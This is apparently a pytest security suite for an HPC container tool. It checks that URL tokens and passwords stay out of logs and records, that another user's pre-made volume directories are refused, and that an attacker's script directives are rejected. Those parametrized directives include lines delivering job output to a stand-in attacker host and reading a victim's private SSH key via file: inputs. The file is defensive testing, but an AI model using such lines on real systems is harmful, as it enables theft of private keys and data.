"""Credentials in URLs, per-user volumes and #STARDOCK lines, attacked (issue 23, items 5 and 6).

Another user reads what a job leaves where others can read: slurm-N.out (0644 in the submit
directory; `scontrol show job` names it), and the victim's own `stardock status --json` and
records when they are shared or pasted. A URL's token, password or signature must appear in none
of them, while the download (HTTP Basic from the URL's user info) and the delivery work. The
other user (stardock2) makes the victim's `{user}` volume directory first; and writes a script
whose #STARDOCK lines add a file: input of the victim's and a delivery to the attacker's host."""
from __future__ import annotations

import base64
import hashlib
import json
import os
import pwd
import re
import subprocess
import uuid
from pathlib import Path
from urllib.parse import quote

import pytest
from clitools import ENGINES, OTHER, remove, shared_dir, stardock, write_spec
from httpfiles import HttpFiles

from slurmtools import sh, wait_job

pytestmark = [pytest.mark.slurm]
ME = pwd.getpwuid(os.getuid()).pw_name
SPEC = "name: attacks-test\n"       # the image test_attacks_jobs.py builds: one per engine, reused
TOKEN, SIGNATURE = f"T0KEN{uuid.uuid4().hex[:12]}", f"S1GN{uuid.uuid4().hex[:12]}"
PASSWORD = f"pw:{uuid.uuid4().hex[:8]}@/?#"   # every character a URL must encode
SECRETS = (TOKEN, SIGNATURE, PASSWORD, quote(PASSWORD, safe=""), PASSWORD[3:11])


def controller_address() -> str:
    """The login side's address on the nodes' network (slurm.conf's SlurmctldHost=name(addr))."""
    text = Path(os.environ["SLURM_CONF"]).read_text()
    m = re.search(r"^SlurmctldHost=[^(\s]*\(([0-9.]+)\)", text, re.M)
    return m.group(1) if m else "127.0.0.1"


def as_attacker(*argv: str) -> subprocess.CompletedProcess:
    proc = sh(["sudo", "-n", "-u", OTHER, "--", *argv])
    assert proc.returncode == 0, proc.stderr
    return proc


@pytest.fixture
def place():
    path = shared_dir("stardock-urls-")
    (path / "shared").mkdir()
    (path / "shared").chmod(0o1777)
    write_spec(path / "env", SPEC)
    yield path
    sh(["sudo", "-n", "-u", OTHER, "--", "rm", "-rf", str(path / "shared")])
    remove(path)


def assert_no_secret(where: str, text: str) -> None:
    for secret in SECRETS:
        assert secret not in text, f"{secret!r} in {where}:\n{text}"


def records_of(job: str) -> str:
    from stardock_hpc.site import expand_path, load_site

    directory = expand_path(load_site().records, ME) / job
    return "".join(p.read_text() for p in sorted(directory.glob("*.json")))


@pytest.mark.parametrize("engine", ENGINES)
def test_url_credentials_work_and_appear_in_no_log_status_or_record(place, engine):
    server = HttpFiles(controller_address())
    try:
        data = f"FITS {uuid.uuid4().hex}\n".encode()
        get, put = f"/m51.fits?token={TOKEN}", f"/up/out.tar.gz?X-Amz-Signature={SIGNATURE}&X-Amz-Expires=60"
        server.files[get] = data
        for path in (get, put):
            server.need_auth[path] = f"alice:{PASSWORD}"
            server.fail[path] = [503]        # one failure each: the retries are logged too
        creds = f"alice:{quote(PASSWORD, safe='')}@{server.url[len('http://'):]}"
        options = ["--input", f"http://{creds}{get}=m51.fits", "--deliver", f"http://{creds}{put}"]
        script = place / "job.sh"
        script.write_text("#!/bin/bash\nsha256sum /data/input/m51.fits\necho done > \"$STARDOCK_OUTPUT/r.txt\"\n")
        base = ["sbatch", "--env", str(place / "env" / "stardock.yaml"), "--engine", engine, "-t", "5", *options]
        dry = stardock(*base, "--dry-run", str(script), cwd=place)
        assert dry.returncode == 0, dry.stderr
        assert "http://***@" in dry.stdout and "?***" in dry.stdout
        assert_no_secret("--dry-run", dry.stdout + dry.stderr)
        proc = stardock(*base, "--parsable", str(script), cwd=place)
        assert proc.returncode == 0, proc.stderr
        assert_no_secret("stardock sbatch's output", proc.stdout + proc.stderr)
        job = proc.stdout.strip().split(";")[0]
        rows = wait_job(job, timeout=300)
        out = (place / f"slurm-{job}.out").read_text()
        assert rows[job]["State"] == "COMPLETED", out
        basic = "Basic " + base64.b64encode(f"alice:{PASSWORD}".encode()).decode()
        assert server.auth[get][-1] == basic and server.auth[put][-1] == basic
        assert f"{hashlib.sha256(data).hexdigest()}  /data/input/m51.fits" in out, out
        assert "trying again" in out and f"http://***@{server.url[7:]}/up/out.tar.gz?***" in out, out
        assert_no_secret(f"slurm-{job}.out", out)
        status = stardock("status", job, "--json")
        text = stardock("status", job)
        logs = stardock("logs", job)
        assert status.returncode == 0 and text.returncode == 0, status.stderr + text.stderr
        [row] = json.loads(status.stdout)
        assert [d["ok"] for d in row["deliveries"]] == [True] and row["inputs"][0]["name"] == "m51.fits"
        for where, got in (("status --json", status.stdout), ("status", text.stdout), ("logs", logs.stdout),
                           ("the records", records_of(job))):
            assert_no_secret(where, got)
    finally:
        server.close()


@pytest.mark.podman
def test_a_users_volume_directory_another_user_made_first_is_refused(place):
    """stardock2 makes the victim's {user} directory in a shared sticky directory (0777: the
    victim could write there, and the attacker read and plant): the victim's jobs must not use it."""
    as_attacker("mkdir", "-m", "0777", str(place / "shared" / ME))
    site = place / "site.yaml"
    text = Path(os.environ["STARDOCK_SITE_CONFIG"]).read_text()
    site.write_text(text.replace("volumes:\n", f"volumes:\n  mine:\n    path: {place}/shared/{{user}}\n"
                                                "    mode: rw\n", 1))
    site.chmod(0o644)
    name = f"squat-{uuid.uuid4().hex[:6]}"
    for option in (["--mount", "mine:rw"], ["--deliver", "mine"]):
        proc = stardock("sbatch", "--site", str(site), f"--job-name={name}", "--env",
                        str(place / "env" / "stardock.yaml"), *option, "--wrap", "echo x > /data/mine/x", cwd=place)
        assert proc.returncode == 2, proc.stdout + proc.stderr
        assert "volume 'mine'" in proc.stderr and f"belongs to {OTHER}, not to {ME}" in proc.stderr, proc.stderr
        assert "Traceback" not in proc.stderr
    assert sh(["squeue", "-h", "-n", name, "-o", "%i"]).stdout.split() == []
    assert os.listdir(place / "shared" / ME) == []


@pytest.mark.podman
@pytest.mark.parametrize("line, said", [
    ("--input file://{secret}=k", "the scheme 'file' is not allowed here"),
    ("--input=file:{secret}", "the scheme 'file' is not allowed here"),
    ("--deliver http://attacker.example.org/drop", "the host 'attacker.example.org' is not allowed here"),
    ("--deliver=https://198.51.100.7:8443/up?x=1 --input https://h.example.org/x", "the host '198.51.100.7'"),
])
def test_stardock_lines_of_a_script_someone_else_wrote_follow_the_default_policy(place, line, said):
    """The attacker's script, which the victim runs as it is: its #STARDOCK lines would hand the
    victim's private file to the job, or the job's outputs to the attacker's host."""
    secret = place / "private" / "id_rsa"
    secret.parent.mkdir(mode=0o700)
    secret.write_text("the victim's key\n")
    script = place / "shared" / "analysis.sh"
    body = f"#!/bin/bash\n#SBATCH -t 5\n#STARDOCK {line.format(secret=secret)}\ncat /data/input/k\n"
    assert sh(["sudo", "-n", "-u", OTHER, "--", "tee", str(script)], input=body).returncode == 0
    as_attacker("chmod", "0644", str(script))
    name = f"stardockline-{uuid.uuid4().hex[:6]}"
    proc = stardock("sbatch", f"--job-name={name}", "--env", str(place / "env" / "stardock.yaml"), str(script),
                    cwd=place)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert said in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert sh(["squeue", "-h", "-n", name, "-o", "%i"]).stdout.split() == []
